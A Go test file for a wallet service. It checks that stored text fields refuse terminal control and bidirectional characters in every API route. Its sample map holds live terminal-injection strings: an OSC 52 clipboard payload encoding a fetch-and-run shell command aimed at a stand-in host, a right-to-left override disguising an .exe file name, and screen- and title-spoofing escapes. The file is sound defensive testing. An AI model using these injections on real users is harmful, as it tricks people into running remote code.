package server

import (
	"encoding/json"
	"testing"

	"github.com/syftbox/syftwallet/api"
)

// hostileTexts hold one of each kind of character the service refuses in text it stores: what a
// terminal would act on, or show in another order, when someone else's wallet displays it.
var hostileTexts = map[string]string{
	"OSC 52 clipboard": "pay me \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
	"OSC title":        "\x1b]0;syftwallet: verified\x1b\\",
	"CSI":              "\x1b[2J\x1b[31mred",
	"C1 CSI":           "a\u009b2Jb",
	"C1 NEL":           "a\u0085b",
	"BEL":              "ding\x07",
	"CR":               "good\rbad!",
	"line feed":        "two\nlines",
	"tab":              "a\tb",
	"NUL":              "a\x00b",
	"DEL":              "a\x7fb",
	"RLO":              "invoice\u202egnp.exe",
	"LRE":              "a\u202ab",
	"RLI":              "a\u2067b\u2069",
	"FSI":              "a\u2068b",
	"RLM":              "a\u200fb",
	"ALM":              "a\u061cb",
	"line separator":   "a\u2028b",
}

// TestTextWithControlsIsRefused: every free-text field the service stores refuses control and
// bidi characters with a 400 naming the field, in every way in, and the ledger does not change.
func TestTextWithControlsIsRefused(t *testing.T) {
	e := newEnv(t)
	ada, _ := e.payerAndPayee("20")
	before := e.snapshot()
	for name, bad := range hostileTexts {
		t.Run(name, func(t *testing.T) {
			ok := map[string]any{"recipientEmail": "bob@example.com", "amount": 1}
			with := func(k string, v any) map[string]any {
				m := map[string]any{"recipientEmail": "bob@example.com", "amount": 1}
				m[k] = v
				return m
			}
			ada.do("POST", "/payments", with("memo", bad)).want(t, 400, api.CodeInvalidRequest, "memo")
			ada.do("POST", "/payments", with("metadata", map[string]string{"note": bad})).want(t, 400, api.CodeInvalidRequest, "metadata")
			ada.do("POST", "/payments", with("metadata", map[string]string{bad: "v"})).want(t, 400, api.CodeInvalidRequest, "metadata")
			ada.do("POST", "/transactions/batch", map[string]any{"payments": []any{ok, ok, with("memo", bad)}}).
				want(t, 400, api.CodeInvalidRequest, "payments[2].memo")
			ada.do("POST", "/transactions/batch", map[string]any{"payments": []any{ok, with("metadata", map[string]string{"k": bad})}}).
				want(t, 400, api.CodeInvalidRequest, "payments[1].metadata")
			ada.do("POST", "/transaction/create", with("appName", "x"+bad)).want(t, 400, api.CodeInvalidRequest, "appName")
			ada.do("POST", "/transaction/create", with("appEpPath", "/x"+bad)).want(t, 400, api.CodeInvalidRequest, "appEpPath")
			ada.do("PUT", "/user/update-organization", map[string]any{"organization": "Org" + bad + "x"}).
				want(t, 400, api.CodeInvalidRequest, "organization")
			e.do("POST", "/user/create", map[string]any{"email": "new@example.com", "organization": "Org" + bad + "x"}).
				want(t, 400, api.CodeInvalidRequest, "organization")
			e.do("POST", "/auth/register", map[string]any{"email": "new@example.com", "organization": "Org" + bad + "x"}).
				want(t, 400, api.CodeInvalidRequest, "organization")
		})
	}
	e.unchanged(before, "a refused write changed the ledger")
	// What people write in any script is kept as it is.
	for _, memo := range []string{"coffee ☕", "مرحبا — שלום", "Grüße", "👩‍💻 pair session", `C:\path\x1b`} {
		r := ada.do("POST", "/payments", map[string]any{"recipientEmail": "bob@example.com", "amount": 0.01, "memo": memo}).want(t, 201)
		var b api.TransactionBody
		if err := json.Unmarshal(r.body, &b); err != nil || b.Transaction.Memo == nil || *b.Transaction.Memo != memo {
			t.Errorf("memo %q came back as %s", memo, r.body)
		}
	}
}
